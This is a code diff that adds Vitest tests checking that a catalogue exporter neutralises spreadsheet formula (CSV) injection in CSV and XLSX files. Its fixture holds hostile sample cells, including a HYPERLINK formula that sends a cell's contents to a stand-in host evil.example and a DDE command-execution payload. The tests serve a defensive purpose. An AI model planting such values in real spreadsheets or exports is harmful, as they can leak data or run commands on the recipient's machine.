@@ -1,3 +1,5 @@
+import { strFromU8, unzipSync } from 'fflate';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import {
   catalogueGrid,
@@ -47,6 +49,56 @@ describe('catalogue files', () => {
     await expect(readCatalogueFile(new File(['x'], 'catalogue.numbers'))).rejects.toThrow(
       'Please choose a CSV or XLSX file.',
     );
+  });
+});
+
+describe('formulas', () => {
+  // Cells a spreadsheet would run as a formula when it opens the file (CSV injection): =, +, -, @,
+  // a tab or a carriage return first, on any line of the cell.
+  const risky = {
+    ...TEMPLATE_EXAMPLE,
+    modelNumber: '-25',
+    productName: '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
+    brandName: '+1+1',
+    origin: '@SUM(1,2)',
+    price: "'=quoted already",
+    port: "'plain quote",
+    supplyAbility: "=cmd|' /C calc'!A0",
+    description: '=1+2\n<p>second line</p>',
+    highlights: [{ name: '=2*3', value: 'x' }],
+  };
+  const written = async (format: 'csv' | 'xlsx') => gridFile(catalogueGrid([risky]), format);
+
+  it('are written to CSV as text, behind a quote', async () => {
+    const grid = Papa.parse<string[]>(await (await written('csv')).text(), { skipEmptyLines: true }).data;
+    const [header, row] = [grid[0]!, grid[1]!];
+    const cell = (key: string) => row[header.indexOf(IMPORT_COLUMNS.find((column) => column.key === key)!.header)];
+    expect(cell('modelNumber')).toBe("'-25");
+    expect(cell('productName')).toBe(`'${risky.productName}`);
+    expect(cell('brandName')).toBe("'+1+1");
+    expect(cell('origin')).toBe("'@SUM(1,2)");
+    expect(cell('description')).toBe(`'${risky.description}`);
+    expect(cell('highlights')).toBe("'=2*3: x");
+    expect(cell('port')).toBe("'plain quote");
+    for (const text of row) expect(text, text).not.toMatch(/^[=+\-@\t\r]/);
+    const tab = Papa.parse<string[]>(
+      await (await gridFile([['Model number'], ['\t=1+1'], ['\r=1+1']], 'csv')).text(),
+    ).data;
+    expect(tab.slice(1, 3)).toEqual([["'\t=1+1"], ["'\r=1+1"]]);
+  });
+
+  it('are written to XLSX as strings, never as formulas', async () => {
+    const files = unzipSync(new Uint8Array(await (await written('xlsx')).arrayBuffer()));
+    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
+    expect(sheet).not.toMatch(/<f[ >]/);
+    const strings = strFromU8(files['xl/sharedStrings.xml']!);
+    expect(strings).toContain('=HYPERLINK(');
+  });
+
+  it.each(['csv', 'xlsx'] as const)('read back as they were (%s)', async (format) => {
+    const file = await asFile(await written(format), `export.${format}`);
+    const read = await readCatalogueFile(file);
+    expect(toImportRow(read.rows[0]!, (entry) => entry)).toEqual({ ...risky, line: 2 });
   });
 });
 
